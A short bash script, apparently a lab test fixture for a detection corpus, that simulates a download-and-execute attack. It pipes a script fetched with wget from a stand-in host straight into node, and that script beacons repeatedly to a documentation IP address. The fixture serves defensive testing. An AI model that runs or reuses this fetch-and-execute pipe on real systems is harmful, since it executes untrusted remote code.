#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=download-execute half=report tool=wget,node parts=dns,outside-web far=out seconds=18
# wget gives a program to node over a pipe, which runs it as it comes; it asks the same place for more each second.
if [ "$1" = out ]; then mkdir -p "$LAB/outside"; echo "require('fs').writeFileSync('$LAB/ran', 'ran'); let n = 0; setInterval(() => { require('http').get('http://203.0.113.66/version', (r) => r.resume()); if (++n > 5) process.exit(0); }, 1000);" >"$LAB/outside/stage.js"; exit 0; fi
sleep 3; wget -q -O - http://relay.example.net/stage.js | timeout 12 node; sleep 2; grep -q ran "$LAB/ran"
